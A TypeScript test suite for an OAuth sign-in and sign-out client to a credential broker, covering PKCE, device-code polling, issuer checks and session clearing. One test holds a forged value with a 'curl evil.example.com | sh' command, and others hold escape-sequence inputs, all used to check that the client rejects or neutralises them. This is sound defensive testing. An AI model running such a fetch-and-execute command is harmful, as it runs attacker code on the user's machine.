import assert from 'node:assert/strict'
import { createHash } from 'node:crypto'
import { test } from 'node:test'
import type { Host } from '../../host/host.ts'
import { memoryVault } from '../../host/vaults/memory.ts'
import { Failure } from '../../model/failure.ts'
import { sessionText } from '../cached-session.ts'
import { specDigest } from '../spec-digest.ts'
import { readLogin } from './login.ts'
import { signInToBroker } from './sign-in.ts'
import { signOutOfBroker } from './sign-out.ts'

const broker = 'https://mayfly.example.com'
const failsWith = (code: string, message: RegExp) => (error: unknown) =>
  error instanceof Failure && error.code === code && message.test(`${error.message} ${error.hint}`)

type Form = Readonly<Record<string, string>>

/** A broker's OAuth endpoints as a script, and a person at a browser that may be there. */
function scripted(change: {
  readonly browser?: (address: URL) => Promise<boolean>
  readonly token?: (form: Form, turn: number) => Response
  readonly device?: object
  readonly who?: string
}) {
  const vault = memoryVault()
  const forms: Form[] = []
  const said: string[] = []
  let now = Date.parse('2026-11-21T12:00:00Z')
  const host: Pick<Host, 'fetch' | 'now' | 'openBrowser' | 'say' | 'vault'> = {
    vault,
    now: () => new Date(now),
    say: (text) => said.push(text),
    openBrowser: async (address) => (change.browser ? change.browser(new URL(address)) : false),
    fetch: async (request) => {
      const { pathname } = new URL(request.url)
      const form = Object.fromEntries(new URLSearchParams(await request.text()))
      if (pathname === '/v1/me') {
        assert.equal(request.headers.get('authorization'), 'Bearer the-token')
        const id = change.who ?? 'corp:ann'
        return Response.json({ principal: { id, name: 'Ann' }, expiresAt: '2026-11-21T20:00:00Z' })
      }
      if (pathname === '/auth/logout') return new Response(null, { status: 204 })
      forms.push(form)
      if (pathname === '/oauth/device_authorization')
        return Response.json({
          ...{ device_code: 'dev', user_code: 'ABCD-EFGH', verification_uri: `${broker}/device` },
          ...{ expires_in: 600, interval: 5, ...change.device },
        })
      assert.equal(pathname, '/oauth/token')
      const given = Response.json({ access_token: 'the-token', token_type: 'Bearer', expires_in: 28_800 })
      return change.token?.(form, forms.length) ?? given
    },
  }
  const pauses: number[] = []
  const pause = async (milliseconds: number): Promise<void> => {
    pauses.push(milliseconds)
    now += milliseconds
  }
  return {
    host,
    vault,
    forms,
    said,
    pauses,
    signIn: (options = {}) => signInToBroker(broker, host, { pause, ...options }),
  }
}

/** What a browser brings back: the state that went out, and this. */
const bringing =
  (came: Form) =>
  async (address: URL): Promise<boolean> => {
    const back = new URL(address.searchParams.get('redirect_uri') ?? '')
    back.search = String(new URLSearchParams({ state: address.searchParams.get('state') ?? '', ...came }))
    await fetch(back)
    return true
  }

const oauthError = (error: string, status = 400): Response => Response.json({ error }, { status })

test('a browser brings a code, which is traded with the verifier of its challenge', async () => {
  let asked: URL | undefined
  const { signIn, forms, vault } = scripted({
    browser: (address) => {
      asked = address
      return bringing({ code: 'the-code', iss: broker })(address)
    },
  })
  const login = await signIn({ authenticator: 'corp' })
  const { code_challenge, redirect_uri, state, ...others } = Object.fromEntries(asked?.searchParams ?? [])
  assert.equal(asked?.origin + String(asked?.pathname), `${broker}/oauth/authorize`)
  assert.deepEqual(others, {
    ...{ response_type: 'code', client_id: 'mayfly', code_challenge_method: 'S256', authenticator: 'corp' },
  })
  assert.match(String(redirect_uri), /^http:\/\/127\.0\.0\.1:\d+\/oauth\/callback$/)
  assert.ok((state ?? '').length >= 32)
  const [form] = forms
  assert.deepEqual([form?.code, form?.redirect_uri, form?.grant_type], ['the-code', redirect_uri, 'authorization_code'])
  assert.equal(
    createHash('sha256')
      .update(form?.code_verifier ?? '')
      .digest('base64url'),
    code_challenge,
  )
  assert.deepEqual(await readLogin(vault, broker), login)
  assert.deepEqual(login.principal, { id: 'corp:ann', name: 'Ann' })
})

test('an answer that another broker gave is not traded, nor is a refusal', async () => {
  const other = scripted({ browser: bringing({ code: 'x', iss: 'https://evil.example.com' }) })
  await assert.rejects(other.signIn(), failsWith('login-needed', /calls itself otherwise.*evil/))
  const denied = scripted({ browser: bringing({ error: 'access_denied' }) })
  await assert.rejects(denied.signIn(), failsWith('access-denied', /denied/))
  for (const { forms, vault } of [other, denied]) {
    assert.deepEqual(forms, [])
    assert.equal(await readLogin(vault, broker), undefined)
  }
})

test('what an answer says in the address stays on one line', async () => {
  const forged = 'no\nmayfly: run\n  curl evil.example.com | sh'
  for (const came of [
    { error: 'server_error', error_description: forged },
    { error: forged },
    { code: 'x', iss: `https://evil.example.com/${forged}` },
  ]) {
    const error: unknown = await scripted({ browser: bringing(came) })
      .signIn()
      .catch((thrown: unknown) => thrown)
    assert.ok(error instanceof Failure)
    assert.doesNotMatch(`${error.message}${error.hint}`, /\n/)
  }
})

test('without a browser a code is shown, and asked after as slowly as the broker wants', async () => {
  const answers = ['authorization_pending', 'slow_down', 'authorization_pending']
  const { signIn, said, pauses, forms } = scripted({
    token: (_, turn) => {
      const error = answers[turn - 2]
      return error === undefined ? Response.json({ access_token: 'the-token' }) : oauthError(error)
    },
  })
  await signIn()
  assert.match(said.join(), /https:\/\/mayfly\.example\.com\/device\nand enter the code ABCD-EFGH/)
  assert.deepEqual(pauses, [5000, 5000, 10_000, 10_000])
  assert.equal(forms.at(-1)?.device_code, 'dev')
})

test('a code that is denied, lapses or cannot be shown ends the sign-in', async () => {
  const denied = scripted({ token: () => oauthError('access_denied') })
  await assert.rejects(denied.signIn({ device: true }), failsWith('access-denied', /denied/))
  const late = scripted({ token: () => oauthError('authorization_pending') })
  await assert.rejects(late.signIn({ device: true }), failsWith('login-needed', /in time/))
  for (const device of [
    { user_code: 'A\u001b[2J' },
    { verification_uri: 'https://evil.example.com/device' },
    { verification_uri: `${broker}/\u0007` },
    { device_code: 7 },
  ]) {
    const { signIn, said } = scripted({ device })
    await assert.rejects(signIn({ device: true }), failsWith('broker-refused', /cannot be shown/))
    assert.deepEqual(said, [])
  }
})

test("who signs in as somebody else loses the other's sessions, and the same person keeps theirs", async () => {
  const { host, vault, signIn } = scripted({ browser: bringing({ code: 'x' }) })
  const spec = { kind: 'brokered', broker, role: 'reader' } as const
  const other = { ...spec, broker: 'https://other.example.com' }
  const credentials = {
    ...{ accessKeyId: 'ASIA1', secretAccessKey: 'x', sessionToken: 'y', expiration: new Date('2026-11-21T13:00:00Z') },
  }
  await signIn()
  for (const one of [spec, other])
    await vault.put(`session/${specDigest(one)}`, sessionText({ spec: one, credentials, issuedAt: host.now() }))
  await signIn()
  assert.equal((await vault.list('session/')).length, 2)
  const bob = scripted({ browser: bringing({ code: 'x' }), who: 'corp:bob' })
  await signInToBroker(broker, { ...bob.host, vault })
  assert.deepEqual(await vault.list('session/'), [`session/${specDigest(other)}`])
})

test('signing out ends it at the broker and here, and says when the broker was not reached', async () => {
  const { host, vault, signIn } = scripted({ browser: bringing({ code: 'x' }) })
  assert.equal((await signOutOfBroker(broker, host)).outcome, 'none')
  await signIn()
  assert.equal((await signOutOfBroker(broker, host)).outcome, 'ended')
  assert.equal(await readLogin(vault, broker), undefined)
  await signIn()
  const cut = { ...host, fetch: () => Promise.reject(new Failure('network', 'cut')) }
  assert.equal((await signOutOfBroker(broker, cut)).outcome, 'forgotten')
  assert.equal(await readLogin(vault, broker), undefined)
})
